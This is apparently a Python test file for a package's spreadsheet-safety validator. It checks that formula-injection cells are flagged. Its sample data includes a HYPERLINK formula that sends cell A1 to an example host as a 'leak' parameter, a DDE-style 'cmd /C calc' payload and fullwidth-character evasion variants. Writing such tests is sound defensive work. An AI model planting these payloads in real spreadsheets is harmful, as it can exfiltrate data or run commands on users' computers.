"""Catalogue, layer 7: spreadsheet safety."""

from __future__ import annotations

from catalogue import FIGURES, PLAIN, Expect, Pkg, case, layer_test
from hypothesis import example, given
from hypothesis import strategies as st

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "plus": "+44 suspects arrested",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "pipe": "|calc",
    "percent": "%APPDATA%",
    "fullwidth-equals": "＝1+1",
    "fullwidth-plus": "＋1",
    "fullwidth-minus": "－1",
    "fullwidth-at": "＠SUM(1)",
    "fullwidth-pipe": "｜calc",
    "fullwidth-percent": "％APPDATA％",
    "leading-tab": "\tsuspects arrested",
    "leading-nul": "\x00suspects arrested",
    "minus-text": "-5 suspects",
}
for _name, _cell in FORMULAS.items():

    @case(f"l7-formula-{_name}", "formula-injection")
    def _(pkg: Pkg, cell: str = _cell) -> list[Expect]:
        line = pkg.set_figure(PLAIN, "measure", cell)
        return [Expect(FIGURES, line, "measure", "formula-injection")]


@case("l7-whole-number-text-cell-is-safe")
def _(pkg: Pkg) -> list[Expect]:
    pkg.set_figure(PLAIN, "notes", "-5")
    return []


_CELL_TEXT = st.text(alphabet=st.sampled_from(list(" \t\r\n\x00=+-@|%ax1\uff1d\uff05\uff5c")), max_size=6)


@given(st.lists(_CELL_TEXT, max_size=6))
@example([" \nx"])
@example(["notes\n=x"])
def test_spreadsheet_prefilter_never_hides_a_formula(column: list[str]) -> None:
    """Property: whenever formula_problem flags a cell, the joined-column prefilter matches too."""
    from ukcsa_data.validation.spreadsheet import _POSSIBLE_FORMULA, formula_problem

    if any(formula_problem(cell) for cell in column if cell):
        assert _POSSIBLE_FORMULA.search("\n".join(cell for cell in column if cell))


test_broken_package = layer_test(__name__)
